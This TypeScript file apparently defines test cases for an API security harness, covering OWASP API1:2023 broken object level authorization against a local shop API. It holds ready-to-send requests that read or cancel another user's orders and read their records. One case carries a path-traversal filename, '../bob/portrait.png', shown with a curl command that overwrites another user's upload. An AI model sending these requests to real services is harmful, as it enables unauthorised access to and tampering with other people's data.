/** API1:2023 Broken Object Level Authorization. */
import { type Attack, type AttackRequest, lastSays } from "./attack.ts";

function upload(filename: string): AttackRequest {
  return {
    method: "POST",
    path: "/uploads",
    as: "alice",
    headers: { "content-type": "multipart/form-data; boundary=cut" },
    body: `--cut\r\ncontent-disposition: form-data; name="file"; filename="${filename}"\r\ncontent-type: image/png\r\n\r\nalice was here\r\n--cut--\r\n`,
  };
}

export const OBJECT_AUTHORIZATION: readonly Attack[] = [
  {
    id: "read-others-order",
    title: "alice reads bob's order",
    owasp: "API1:2023",
    flaw: "`GET /orders/{orderId}` never asks whose order it is; the numbers can be counted through.",
    requests: () => [{ method: "GET", path: "/orders/4", as: "alice" }],
    exploited: lastSays(200, '"customer":"bob"'),
    twin: { request: () => ({ method: "GET", path: "/orders/1", as: "alice" }), status: 200, says: '"customer":"alice"' },
  },
  {
    id: "cancel-others-order",
    title: "alice cancels bob's order",
    owasp: "API1:2023",
    flaw: "`DELETE /orders/{orderId}` never asks whose order it is.",
    requests: () => [{ method: "DELETE", path: "/orders/5", as: "alice" }],
    exploited: lastSays(200, '"status":"cancelled"'),
    twin: { request: () => ({ method: "DELETE", path: "/orders/3", as: "alice" }), status: 200, says: '"status":"cancelled"' },
  },
  {
    id: "read-others-record",
    title: "alice reads bob's record",
    owasp: "API1:2023",
    flaw: "`GET /customers/{customerId}` shows anybody's record to anybody who is logged in.",
    requests: () => [{ method: "GET", path: "/customers/bob", as: "alice" }],
    exploited: lastSays(200, '"email":"bob@shop.example"'),
    twin: { request: () => ({ method: "GET", path: "/customers/alice", as: "alice" }), status: 200, says: '"id":"alice"' },
  },
  {
    id: "overwrite-others-upload",
    title: "alice replaces bob's portrait",
    owasp: "API1:2023",
    flaw: "`POST /uploads` joins the file name of the form to the caller's folder, so `../bob/` leads out of it.",
    requests: () => [upload("../bob/portrait.png")],
    exploited: lastSays(201, '"path":"/bob/portrait.png"'),
    twin: { request: () => upload("portrait.png"), status: 201, says: '"path":"/alice/portrait.png"' },
    shell: `curl -X POST http://127.0.0.1:3000/uploads -H "Authorization: Bearer $ALICE" \\
  -F 'file=@README.md;type=image/png;filename="../bob/portrait.png"'`,
  },
];
